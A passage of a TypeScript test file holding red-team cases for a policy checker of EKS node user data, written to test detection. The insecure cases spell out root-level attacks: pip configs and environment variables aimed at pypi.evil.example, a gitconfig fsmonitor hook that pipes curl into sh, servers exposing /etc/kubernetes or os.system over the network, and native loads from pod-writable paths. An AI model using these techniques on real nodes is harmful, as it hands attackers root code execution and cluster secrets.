// Red-team round 81 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs and pip run as
// root (policy-pack/engine/userDataReaders/pythonCode.ts, rootReads.ts). Probed classes the earlier rounds did not:
// pip's configuration files (legacy ~/.pip, XDG, [install] sections, `:` delimiters, a HOME moved for pip), pip's
// environment set by a Python program under a computed name, index spellings (userinfo, look-alike host, an abbreviated
// --index, --trusted-host over http), pip behind xargs/stdbuf/python3.9, CA bundles in pod-writable dirs; the
// interpreter's search paths from HOME/PYTHONPATH/PYTHONHOME/.pth and the flags that drop them (-E, -s, -I); native
// loads (ctypes, cffi, zipimporter, pkgutil plugin dirs, LD_LIBRARY_PATH); virtualenv seed wheels and venvs in /srv;
// multiprocessing/XML-RPC/http.server listeners (`--bind 0`, `::`, functools.partial handlers); secure neighbours (the
// default index named, pip options that narrow, --user/--target, harmless pip.conf keys, libc through ctypes).
// Misses (3 insecure accepted, 12 secure refused), by class:
// - HOME-MOVED-CONFIG (3 insecure): dev-py81-py-writes-home-pip-conf-rt81p, dev-py81-py-pathlib-home-pip-conf-rt81p,
//   dev-py81-py-writes-home-gitconfig-rt81p: a root program writes pip.conf/.gitconfig into its own state directory
//   (PROGRAM_DATA_PATHS allows /var/lib/<app>/), a later command runs with HOME there; pip trust (pythonPipInstalled)
//   sees only files user data wrote and rootReads pins pip's user files to /root. Fix: dotfile configuration from the
//   command's HOME; a root program's write there is a configuration write; a moved HOME withdraws pip trust.
// - PIP-DEFAULT-INDEX-NAMED / option allowlist (2 secure): dev-py81-explicit-pypi-import-rt81p,
//   dev-py81-pip-only-binary-import-rt81p: PIP_PLAIN_OPTIONS lacks `-i https://pypi.org/simple` and --only-binary.
// - PIP-TARGET-PATH (1 secure): dev-py81-pip-target-opt-rt81p: a default-index --target install is unknown content.
// - PIP-CONF-HARMLESS (2 secure): dev-py81-etc-pip-conf-timeout-rt81p, dev-py81-legacy-pip-conf-timeout-rt81p: any
//   written pip.conf withdraws trust (pythonPipInstalled) or is an unjudgeable node configuration (rootWrites.ts).
// - PY-ENV-IGNORED (5 secure): dev-py81-pythonpath-E-rt81p, dev-py81-pythonpath-I-rt81p, dev-py81-pythonhome-E-rt81p,
//   dev-py81-home-srv-s-rt81p, dev-py81-home-mnt-I-rt81p: LOADER_VARIABLES words are judged whatever the
//   interpreter's -E/-I/-s flags (RootReads.command).
// - CTYPES-SYSTEM-LIBRARY (2 secure): dev-py81-ctypes-libc-rt81p, dev-py81-ctypes-find-library-rt81p: any ctypes use
//   is unread code (pythonDynamic).
// Not reported (by design, README DECIDED round 69 / round 74): an install from another index, uvx/pipx runs, with no
// root program importing what they install; such installs followed by an import are held (cases below).
// Held: 40 of 43 insecure refused; 10 of 22 secure clean.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names (as round 80's file). */
const REFUSED =
    /serv|8001|kubernetes|tune\.py|srv|mnt|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin|command|sysctl|module|code|config|listen|0\.0\.0\.0/;

const EVIL = "https://pypi.evil.example/simple";

/** A pip.conf whose index is the attacker's (pip docs "Configuration": `index-url` under [global]). */
const EVIL_CONF = ["[global]", `index-url = ${EVIL}`];

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (
    name: string,
    lines: string[],
    before: string[] = [],
    run = "cd /var/lib/ops && python3 /opt/ops/tune.py",
) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        run,
    ]);

/** A script of shell lines after the ops directories are made. */
const sh = (name: string, lines: string[]) =>
    devNodeScript(name, ["mkdir -p /var/lib/ops /var/cache/ops /var/log/ops", ...lines]);

/** `lines`, then /opt/ops/run.py (importing tenacity) run as root: what the install put there runs. */
const thenImport = (name: string, lines: string[]) =>
    sh(name, [
        ...lines,
        ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
        "python3 /opt/ops/run.py",
    ]);

/** A plain program importing only the standard library. */
const PLAIN = ["import json", 'print(json.dumps({"ok": 1}))'];

const insecure: NodeCase[] = [
    // ===== A. pip configuration files the pack may not read =====
    // pip docs "Configuration" (Unix, User): "The legacy per-user configuration file is also loaded, if it exists:
    // $HOME/.pip/pip.conf": root's /root/.pip/pip.conf names the attacker's index; the next install runs its code as root.
    dev(
        "user data: /root/.pip/pip.conf (legacy user file) index-url evil; pip3 install tenacity",
        sh("dev-py81-legacy-pip-conf-rt81p", [
            ...heredocFile("/root/.pip/pip.conf", EVIL_CONF),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" (User): "$HOME/.config/pip/pip.conf".
    dev(
        "user data: /root/.config/pip/pip.conf index-url evil; python3 -m pip install tenacity",
        sh("dev-py81-user-pip-conf-rt81p", [
            ...heredocFile("/root/.config/pip/pip.conf", EVIL_CONF),
            "python3 -m pip install tenacity",
        ]),
        REFUSED,
    ),
    // Same file written with printf (pip reads it whatever wrote it).
    dev(
        "user data: printf legacy /root/.pip/pip.conf; pip3 install tenacity",
        sh("dev-py81-legacy-pip-conf-printf-rt81p", [
            "mkdir -p /root/.pip",
            `printf '[global]\\nindex-url = ${EVIL}\\n' > /root/.pip/pip.conf`,
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // ===== A2. the same configurations, with a root program importing what pip installed =====
    // pip docs "Configuration" (Global): /etc/xdg/pip/pip.conf; tenacity then comes from the attacker's index and
    // run.py imports it as root.
    dev(
        "user data: /etc/xdg/pip/pip.conf index-url evil; pip3 install tenacity; run.py imports tenacity",
        thenImport("dev-py81-xdg-pip-conf-import-rt81p", [
            ...heredocFile("/etc/xdg/pip/pip.conf", EVIL_CONF),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" (Global): "/etc/pip.conf".
    dev(
        "user data: /etc/pip.conf index-url evil; pip3 install tenacity; run.py imports tenacity",
        thenImport("dev-py81-etc-pip-conf-import-rt81p", [
            ...heredocFile("/etc/pip.conf", EVIL_CONF),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" ("Config file" sections): "[install]" settings apply to pip install only.
    dev(
        "user data: /etc/pip.conf [install] index-url evil; pip3 install tenacity; import",
        thenImport("dev-py81-etc-pip-conf-install-section-rt81p", [
            ...heredocFile("/etc/pip.conf", ["[install]", `index-url = ${EVIL}`]),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // Python docs "configparser" (pip reads pip.conf with it): "key: value" is as "key = value".
    dev(
        "user data: /etc/pip.conf 'index-url: evil' (colon delimiter); pip3 install tenacity; import",
        thenImport("dev-py81-etc-pip-conf-colon-rt81p", [
            ...heredocFile("/etc/pip.conf", ["[global]", `index-url: ${EVIL}`]),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" (User): "$HOME/.config/pip/pip.conf" and legacy "$HOME/.pip/pip.conf": with HOME moved
    // to /var/lib/ops, pip reads the file user data wrote there.
    dev(
        "user data: /var/lib/ops/.pip/pip.conf evil; HOME=/var/lib/ops pip3 install tenacity; import",
        thenImport("dev-py81-home-moved-pip-conf-rt81p", [
            ...heredocFile("/var/lib/ops/.pip/pip.conf", EVIL_CONF),
            "HOME=/var/lib/ops pip3 install tenacity",
        ]),
        REFUSED,
    ),
    dev(
        "user data: export HOME=/var/lib/ops; /var/lib/ops/.config/pip/pip.conf evil; pip3 install tenacity; import",
        thenImport("dev-py81-export-home-pip-conf-rt81p", [
            "export HOME=/var/lib/ops",
            ...heredocFile("/var/lib/ops/.config/pip/pip.conf", EVIL_CONF),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // ===== A3. pip's environment from a Python program, under a computed name =====
    // Python docs "os.environ" (a mapping of the process environment, inherited by subprocesses; keys are
    // case-sensitive on Linux, str.upper builds PIP_INDEX_URL) and pip docs "Environment Variables" (PIP_INDEX_URL is
    // --index-url): the program's reinstall takes tenacity from the attacker's index; run.py imports it as root.
    dev(
        "tune.py: os.environ['pip_index_url'.upper()] = evil; pip3 install --force-reinstall tenacity; run.py imports",
        sh("dev-py81-environ-upper-pip-rt81p", [
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", [
                "import os, subprocess",
                `os.environ["pip_index_url".upper()] = "${EVIL}"`,
                'subprocess.run(["pip3", "install", "--force-reinstall", "tenacity"], check=True)',
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // Python docs "subprocess.run" env=: the child's environment, its key built by str.upper.
    dev(
        "tune.py: subprocess.run(pip3 install --force-reinstall tenacity, env={'pip_index_url'.upper(): evil}); run.py",
        sh("dev-py81-run-env-upper-pip-rt81p", [
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", [
                "import os, subprocess",
                `env = dict(os.environ, **{"pip_index_url".upper(): "${EVIL}"})`,
                'subprocess.run(["pip3", "install", "--force-reinstall", "tenacity"], env=env, check=True)',
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // Python docs "os.putenv" (affects subprocesses started after) with a key from str.upper.
    dev(
        "tune.py: os.putenv('pip_index_url'.upper(), evil); os.system('pip3 install --force-reinstall tenacity'); run.py",
        sh("dev-py81-putenv-upper-pip-rt81p", [
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", [
                "import os",
                `os.putenv("pip_index_url".upper(), "${EVIL}")`,
                'os.system("pip3 install --force-reinstall tenacity")',
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // A Python program writing pip's configuration where pip reads it from a moved HOME (pip docs "Configuration":
    // $HOME/.config/pip/pip.conf), /var/lib/ops being the program's own state directory.
    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration" (User): "$HOME/.config/pip/pip.conf": with HOME=/var/lib/ops pip reads the index
    // the root program wrote there; tenacity comes from the attacker's index and run.py imports it as root. The pack: a root Python program may write its own
    // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
    // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
    // at PIP_/UV_/XDG_CONFIG_* words, while rootReads.ts pins pip's user files to /root (/root/.config/pip/pip.conf,
    // /root/.pip/pip.conf); a HOME moved for the command (prefix, export, unit Environment=) is not followed. Fix: compute
    // each root program's dotfile configuration from the HOME it runs with (as curl's curlrc already is), and treat a
    // write of a root program under any such configuration path (pip.conf, .gitconfig, .curlrc, .netrc ...) as a write
    // into root-read configuration; simplest general rule: a HOME other than /root withdraws pip trust and makes every
    // root-program write below that HOME a configuration write.
    dev(
        "tune.py writes /var/lib/ops/.config/pip/pip.conf (evil index); HOME=/var/lib/ops pip3 install tenacity; run.py",
        sh("dev-py81-py-writes-home-pip-conf-rt81p", [
            ...heredocFile("/opt/ops/tune.py", [
                "import os",
                'os.makedirs("/var/lib/ops/.config/pip", exist_ok=True)',
                'with open("/var/lib/ops/.config/pip/pip.conf", "w") as f:',
                `    f.write("[global]\\nindex-url = ${EVIL}\\n")`,
            ]),
            "python3 /opt/ops/tune.py",
            "HOME=/var/lib/ops pip3 install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // pathlib docs "Path.write_text"; the same file through pathlib, and HOME exported before pip (bash(1) export).
    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. pip docs "Configuration": legacy "$HOME/.pip/pip.conf" written with pathlib, HOME exported
    // (bash(1) export) before pip: the attacker's index serves tenacity, imported by root. The pack: a root Python program may write its own
    // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
    // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
    // at PIP_/UV_/XDG_CONFIG_* words, while rootReads.ts pins pip's user files to /root (/root/.config/pip/pip.conf,
    // /root/.pip/pip.conf); a HOME moved for the command (prefix, export, unit Environment=) is not followed. Fix: compute
    // each root program's dotfile configuration from the HOME it runs with (as curl's curlrc already is), and treat a
    // write of a root program under any such configuration path (pip.conf, .gitconfig, .curlrc, .netrc ...) as a write
    // into root-read configuration; simplest general rule: a HOME other than /root withdraws pip trust and makes every
    // root-program write below that HOME a configuration write.
    dev(
        "tune.py: Path('/var/lib/ops/.pip/pip.conf').write_text(evil conf); export HOME=/var/lib/ops; pip3 install; run.py",
        sh("dev-py81-py-pathlib-home-pip-conf-rt81p", [
            ...heredocFile("/opt/ops/tune.py", [
                "from pathlib import Path",
                'd = Path("/var/lib/ops/.pip")',
                "d.mkdir(parents=True, exist_ok=True)",
                `(d / "pip.conf").write_text("[global]\\nindex-url = ${EVIL}\\n")`,
            ]),
            "python3 /opt/ops/tune.py",
            "export HOME=/var/lib/ops",
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // git-config(1) FILES: "$HOME/.gitconfig" is git's user configuration; core.fsmonitor: "If set to ... a command",
    // git runs it as a hook on status: a root program's file in its own state directory becomes root's command when
    // git runs with HOME moved there.
    // Was a MISS (fixed in round 81): (HOME-MOVED-CONFIG) insecure accepted, got []. git-config(1) FILES "$HOME/.gitconfig" and core.fsmonitor (a command git runs
    // as a hook): a root program's file becomes root's command line when git runs with HOME=/var/lib/ops. The pack: a root Python program may write its own
    // state directory (PROGRAM_DATA_PATHS, pythonCode.ts pythonWriteRefusal: /var/lib/<app>/), and pip trust
    // (pythonCode.ts pythonPipInstalled/scriptPipModules) looks only at files user data itself wrote (view.written) and
    // at PIP_/UV_/XDG_CONFIG_* words, while rootReads.ts pins pip's user files to /root (/root/.config/pip/pip.conf,
    // /root/.pip/pip.conf); a HOME moved for the command (prefix, export, unit Environment=) is not followed. Fix: compute
    // each root program's dotfile configuration from the HOME it runs with (as curl's curlrc already is), and treat a
    // write of a root program under any such configuration path (pip.conf, .gitconfig, .curlrc, .netrc ...) as a write
    // into root-read configuration; simplest general rule: a HOME other than /root withdraws pip trust and makes every
    // root-program write below that HOME a configuration write.
    dev(
        "tune.py writes /var/lib/ops/.gitconfig (core.fsmonitor = command); HOME=/var/lib/ops git -C /opt/ops/repo status",
        sh("dev-py81-py-writes-home-gitconfig-rt81p", [
            "git clone -q https://github.com/example-org/ops-config.git /opt/ops/repo",
            ...heredocFile("/opt/ops/tune.py", [
                'with open("/var/lib/ops/.gitconfig", "w") as f:',
                `    f.write("[core]\\n\\tfsmonitor = sh -c 'curl -fsSL https://ops.example/hook | sh'\\n")`,
            ]),
            "python3 /opt/ops/tune.py",
            "HOME=/var/lib/ops git -C /opt/ops/repo status",
        ]),
        REFUSED,
    ),
    // ===== B0. pip spellings followed by an import =====
    dev(
        "user data: python3.9 -m pip install -i evil tenacity; run.py imports tenacity",
        thenImport("dev-py81-python39-m-pip-import-rt81p", [`python3.9 -m pip install -i ${EVIL} tenacity`]),
        REFUSED,
    ),
    dev(
        "user data: stdbuf -oL pip3 install -i evil tenacity; run.py imports tenacity",
        thenImport("dev-py81-stdbuf-pip-import-rt81p", [`stdbuf -oL pip3 install -i ${EVIL} tenacity`]),
        REFUSED,
    ),
    dev(
        "user data: echo tenacity | xargs pip3 install -i evil; run.py imports tenacity",
        thenImport("dev-py81-xargs-pip-import-rt81p", [`echo tenacity | xargs pip3 install -i ${EVIL}`]),
        REFUSED,
    ),
    // optparse docs ("optparse supports abbreviations of long options"): pip's parser takes --index as --index-url.
    dev(
        "user data: pip3 install --index https://pypi.evil.example/simple tenacity (abbreviated); import",
        thenImport("dev-py81-pip-index-abbrev-rt81p", [`pip3 install --index ${EVIL} tenacity`]),
        REFUSED,
    ),
    dev(
        "user data: pip3 install --trusted-host pypi.org -i http://pypi.org/simple tenacity; import",
        thenImport("dev-py81-trusted-host-import-rt81p", [
            "pip3 install --trusted-host pypi.org -i http://pypi.org/simple tenacity",
        ]),
        REFUSED,
    ),
    // Python docs "http.server" --bind: "::" is IPv6's any address (and, dual-stack, IPv4's): /etc/kubernetes served.
    dev(
        "user data: python3 -m http.server 8001 --bind :: --directory /etc/kubernetes",
        sh("dev-py81-http-server-bind-v6-any-rt81p", [
            "python3 -m http.server 8001 --bind :: --directory /etc/kubernetes &",
        ]),
        REFUSED,
    ),
    // Python docs "http.server" SimpleHTTPRequestHandler(directory=...) through functools.partial on 0.0.0.0.
    dev(
        "tune.py: ThreadingHTTPServer(('0.0.0.0', 8001), partial(SimpleHTTPRequestHandler, directory='/etc/kubernetes'))",
        tune("dev-py81-partial-handler-dir-rt81p", [
            "import functools",
            "from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer",
            'h = functools.partial(SimpleHTTPRequestHandler, directory="/etc/kubernetes")',
            'ThreadingHTTPServer(("0.0.0.0", 8001), h).serve_forever()',
        ]),
        REFUSED,
    ),
    // RFC 3986 3.2.1: `https://pypi.org@evil.example/simple` has userinfo "pypi.org" and host evil.example.
    dev(
        "user data: pip3 install -i https://pypi.org@pypi.evil.example/simple tenacity (userinfo, not host)",
        thenImport("dev-py81-index-userinfo-rt81p", [
            "pip3 install -i https://pypi.org@pypi.evil.example/simple tenacity",
        ]),
        REFUSED,
    ),
    // A host whose name begins with pypi.org (DNS: pypi.org.evil.example is the attacker's zone).
    dev(
        "user data: pip3 install --index-url=https://pypi.org.evil.example/simple tenacity",
        thenImport("dev-py81-index-prefix-host-rt81p", [
            "pip3 install --index-url=https://pypi.org.evil.example/simple tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "pip install" --cert: "Path to PEM-encoded CA certificate bundle": a CA in /srv (pod-writable, README)
    // lets a pod's CA sign the index; --proxy sends it through a pod-run proxy.
    dev(
        "user data: pip3 install --cert /srv/ops/ca.pem tenacity (pod-writable CA bundle)",
        sh("dev-py81-pip-cert-srv-rt81p", ["pip3 install --cert /srv/ops/ca.pem tenacity"]),
        REFUSED,
    ),
    // Requests docs "SSL Cert Verification": REQUESTS_CA_BUNDLE is the CA bundle pip's requests trusts (pip docs
    // "HTTPS Certificates": "pip ... respect the REQUESTS_CA_BUNDLE").
    dev(
        "user data: REQUESTS_CA_BUNDLE=/srv/ops/ca.pem pip3 install tenacity",
        sh("dev-py81-requests-ca-bundle-rt81p", ["REQUESTS_CA_BUNDLE=/srv/ops/ca.pem pip3 install tenacity"]),
        REFUSED,
    ),
    // ===== D. the interpreter's own search paths from the environment =====
    // Python docs "site": user site-packages is ~/.local/lib/pythonX.Y/site-packages, "~" from HOME
    // (os.path.expanduser); its .pth files' import lines run at startup ("Lines starting with import ... are executed").
    // HOME=/srv/ops (pod-writable) makes a pod's .pth run as root.
    dev(
        "user data: HOME=/srv/ops python3 tune.py (user site under /srv)",
        tune("dev-py81-home-srv-user-site-rt81p", PLAIN, [], "HOME=/srv/ops python3 /opt/ops/tune.py"),
        REFUSED,
    ),
    dev(
        "user data: export HOME=/mnt/ops; python3 tune.py",
        tune("dev-py81-export-home-mnt-rt81p", PLAIN, ["export HOME=/mnt/ops"], "python3 /opt/ops/tune.py"),
        REFUSED,
    ),
    // systemd.exec(5) Environment=: a unit's HOME for its python3 ExecStart.
    dev(
        "unit: Environment=HOME=/srv/ops, ExecStart=python3 tune.py",
        sh("dev-py81-unit-home-srv-rt81p", [
            ...heredocFile("/opt/ops/tune.py", PLAIN),
            ...systemdUnit("ops-tune", ["Environment=HOME=/srv/ops", "ExecStart=/usr/bin/python3 /opt/ops/tune.py"]),
        ]),
        REFUSED,
    ),
    // systemd.exec(5) EnvironmentFile=: a pod-writable file sets PYTHONPATH for root's python.
    dev(
        "unit: EnvironmentFile=-/srv/ops/env, ExecStart=python3 tune.py",
        sh("dev-py81-unit-envfile-srv-rt81p", [
            ...heredocFile("/opt/ops/tune.py", PLAIN),
            ...systemdUnit("ops-tune", [
                "EnvironmentFile=-/srv/ops/env",
                "ExecStart=/usr/bin/python3 /opt/ops/tune.py",
            ]),
        ]),
        REFUSED,
    ),
    // Python docs "site": a .pth line "import ..." runs at every start; this one puts /mnt/pylib first on sys.path.
    dev(
        "user data: site-packages/ops.pth 'import sys; sys.path.insert(0, \"/mnt/pylib\")'; python3 tune.py",
        tune("dev-py81-pth-insert-mnt-rt81p", PLAIN, [
            "mkdir -p /usr/local/lib/python3.9/site-packages",
            `echo 'import sys; sys.path.insert(0, "/mnt/pylib")' > /usr/local/lib/python3.9/site-packages/ops.pth`,
        ]),
        REFUSED,
    ),
    // Python docs "subprocess.run": env= is the child's environment.
    dev(
        "tune.py: subprocess.run(['pip3','install','tenacity'], env={**os.environ, 'PIP_INDEX_URL': evil})",
        tune("dev-py81-run-env-pip-index-rt81p", [
            "import os, subprocess",
            `subprocess.run(["pip3", "install", "tenacity"], env={**os.environ, "PIP_INDEX_URL": "${EVIL}"}, check=True)`,
        ]),
        REFUSED,
    ),
    // ===== F. native code and importers a program loads =====
    // Python docs "ctypes": CDLL(name) loads the shared library (dlopen(3)): its constructors run as root.
    dev(
        "tune.py: ctypes.CDLL('/srv/ops/libtune.so')",
        tune("dev-py81-ctypes-srv-rt81p", ["import ctypes", 'ctypes.CDLL("/srv/ops/libtune.so")']),
        REFUSED,
    ),
    dev(
        "tune.py: ctypes.cdll.LoadLibrary('/mnt/ops/libtune.so')",
        tune("dev-py81-ctypes-loadlibrary-mnt-rt81p", [
            "import ctypes",
            'ctypes.cdll.LoadLibrary("/mnt/ops/libtune.so")',
        ]),
        REFUSED,
    ),
    // dlopen(3): a bare name is searched in LD_LIBRARY_PATH first.
    dev(
        "user data: LD_LIBRARY_PATH=/srv/lib python3 tune.py (ctypes.CDLL('libtune.so'))",
        tune(
            "dev-py81-ctypes-ld-library-path-rt81p",
            ["import ctypes", 'ctypes.CDLL("libtune.so")'],
            [],
            "LD_LIBRARY_PATH=/srv/lib python3 /opt/ops/tune.py",
        ),
        REFUSED,
    ),
    // cffi docs "ffi.dlopen(libpath)": loads the library.
    dev(
        "tune.py: cffi.FFI().dlopen('/srv/ops/libtune.so')",
        tune("dev-py81-cffi-dlopen-srv-rt81p", ["import cffi", 'cffi.FFI().dlopen("/srv/ops/libtune.so")']),
        REFUSED,
    ),
    // Python docs "zipimport": zipimporter(archivepath).load_module(fullname) imports from the archive.
    dev(
        "tune.py: zipimport.zipimporter('/srv/ops/p.zip').load_module('p')",
        tune("dev-py81-zipimporter-srv-rt81p", [
            "import zipimport",
            'zipimport.zipimporter("/srv/ops/p.zip").load_module("p")',
        ]),
        REFUSED,
    ),
    // Python docs "pkgutil.iter_modules(path)" + importlib.import_module: every module a pod puts in /mnt/plugins.
    dev(
        "tune.py: for m in pkgutil.iter_modules(['/mnt/plugins']): importlib.import_module(m.name)",
        tune("dev-py81-pkgutil-plugins-mnt-rt81p", [
            "import importlib, pkgutil, sys",
            'sys.path.append("/mnt/plugins")',
            'for m in pkgutil.iter_modules(["/mnt/plugins"]):',
            "    importlib.import_module(m.name)",
        ]),
        REFUSED,
    ),
    // ===== G. seeds and venvs =====
    // virtualenv docs (changelog): --extra-search-dir "adds extra directories to search for compatible wheels for pip
    // and setuptools" (the newest is chosen): a pod's pip-99 wheel in /srv/wheels becomes the venv's pip (a .pth in it
    // runs at every start of the venv's python).
    dev(
        "user data: virtualenv --extra-search-dir /srv/wheels /opt/ops/venv; venv python tune.py",
        sh("dev-py81-virtualenv-extra-search-rt81p", [
            "pip3 install virtualenv==20.26.3",
            "virtualenv --extra-search-dir /srv/wheels /opt/ops/venv",
            ...heredocFile("/opt/ops/tune.py", PLAIN),
            "/opt/ops/venv/bin/python /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // A venv in /srv (pod-writable): a pod replaces bin/python or puts a .pth in its site-packages.
    dev(
        "user data: python3 -m venv /srv/ops/venv; /srv/ops/venv/bin/python tune.py",
        sh("dev-py81-venv-in-srv-rt81p", [
            "python3 -m venv /srv/ops/venv",
            ...heredocFile("/opt/ops/tune.py", PLAIN),
            "/srv/ops/venv/bin/python /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // ===== H. servers a program opens =====
    // Python docs "multiprocessing.connection": "Connection.recv() automatically unpickles the data it receives, which
    // can be a security risk"; Listener(address) with no authkey authenticates nobody: any pod reaching the node's
    // port 6000 runs code as root.
    dev(
        "tune.py: multiprocessing.connection.Listener(('0.0.0.0', 6000)).accept().recv()",
        tune("dev-py81-mp-listener-rt81p", [
            "from multiprocessing.connection import Listener",
            'with Listener(("0.0.0.0", 6000)) as l:',
            "    with l.accept() as c:",
            "        print(c.recv())",
        ]),
        REFUSED,
    ),
    // Python docs "xmlrpc.server": SimpleXMLRPCServer serves registered functions; os.system is one.
    dev(
        "tune.py: SimpleXMLRPCServer(('0.0.0.0', 8001)).register_function(os.system)",
        tune("dev-py81-xmlrpc-system-rt81p", [
            "import os",
            "from xmlrpc.server import SimpleXMLRPCServer",
            's = SimpleXMLRPCServer(("0.0.0.0", 8001))',
            "s.register_function(os.system)",
            "s.serve_forever()",
        ]),
        REFUSED,
    ),
    // socket(7)/getaddrinfo(3): the address "0" is INADDR_ANY; Python docs "http.server" --bind.
    dev(
        "user data: python3 -m http.server 8001 --bind 0 --directory /etc/kubernetes",
        sh("dev-py81-http-server-bind-zero-rt81p", [
            "python3 -m http.server 8001 --bind 0 --directory /etc/kubernetes &",
        ]),
        REFUSED,
    ),
    // Round 81 neighbours (HOME-MOVED-CONFIG): a root program's write of a dotfile below a HOME user data gives a
    // command is a write into root-read configuration (pip docs "Configuration" "$HOME/.config/pip/pip.conf"; curl(1)
    // "$HOME/.curlrc"; git-config(1) FILES "$HOME/.gitconfig").
    dev(
        "tune.py writes /var/lib/ops/.curlrc (evil proxy); env HOME=/var/lib/ops curl -fsSL https://ops.example/x",
        sh("dev-py81-py-writes-home-curlrc-fix81", [
            ...heredocFile("/opt/ops/tune.py", [
                'with open("/var/lib/ops/.curlrc", "w") as f:',
                '    f.write("proxy = http://proxy.evil.example:3128\\n")',
            ]),
            "python3 /opt/ops/tune.py",
            "env HOME=/var/lib/ops curl -fsSL -o /var/cache/ops/x https://ops.example/x",
        ]),
        REFUSED,
    ),
    // pip reads $HOME/.config/pip/pip.conf from an exported HOME (bash(1) export) as `python3 -m pip` too: the trust
    // of a default-index install is withdrawn once HOME is moved.
    dev(
        "tune.py open().write .config/pip/pip.conf; export HOME=/var/lib/ops; python3 -m pip install tenacity; run.py",
        sh("dev-py81-unit-home-pip-conf-fix81", [
            ...heredocFile("/opt/ops/tune.py", [
                "import os",
                'os.makedirs("/var/lib/ops/.config/pip", exist_ok=True)',
                `open("/var/lib/ops/.config/pip/pip.conf", "w").write("[global]\\nindex-url = ${EVIL}\\n")`,
            ]),
            "python3 /opt/ops/tune.py",
            "export HOME=/var/lib/ops",
            "python3 -m pip install tenacity",
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // Round 81 neighbours (PIP-DEFAULT-INDEX-NAMED): pip's options parser keeps the last -i (pip docs "pip install"
    // -i: one index URL), so the default named first and another after is the other; --only-binary with an extra
    // index ("--extra-index-url: Extra URLs of package indexes to use in addition to --index-url") adds a source.
    dev(
        "user data: pip3 install -i https://pypi.org/simple -i evil tenacity; run.py imports",
        thenImport("dev-py81-default-then-evil-index-fix81", [
            `pip3 install -i https://pypi.org/simple -i ${EVIL} tenacity`,
        ]),
        REFUSED,
    ),
    dev(
        "user data: pip3 install --only-binary :all: --extra-index-url evil tenacity; run.py imports",
        thenImport("dev-py81-only-binary-extra-index-fix81", [
            `pip3 install --only-binary :all: --extra-index-url ${EVIL} tenacity`,
        ]),
        REFUSED,
    ),
    // A look-alike host with the default's path (RFC 3986 3.2.2: the host is pypi.org.evil.example).
    dev(
        "user data: pip3 install --index-url=https://pypi.org.evil.example/simple tenacity; run.py imports",
        thenImport("dev-py81-lookalike-index-eq-fix81", [
            "pip3 install --index-url=https://pypi.org.evil.example/simple tenacity",
        ]),
        REFUSED,
    ),
    // Round 82 fix neighbours (PIP-CONF-HARMLESS, insecure): pip docs "Configuration" (keys are the long options,
    // `_`/`-` and `=`/`:` alike; configparser): a harmless key beside a source-choosing one keeps nothing.
    dev(
        "user data: /etc/pip.conf timeout = 60 and extra-index-url EVIL; pip3 install tenacity; run.py imports",
        thenImport("dev-py81-etc-pip-conf-extra-index-fix82-rt81p", [
            ...heredocFile("/etc/pip.conf", ["[global]", "timeout = 60", `extra-index-url = ${EVIL}`]),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    dev(
        "user data: /root/.config/pip/pip.conf [install] index_url: EVIL; pip3 install tenacity; run.py imports",
        thenImport("dev-py81-root-pip-conf-index-colon-fix82-rt81p", [
            ...heredocFile("/root/.config/pip/pip.conf", ["[install]", `index_url: ${EVIL}`]),
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // Round 84 neighbours of PY-ENV-IGNORED (model/locatingVariables.ts ignoredByPython, rootReads.ts
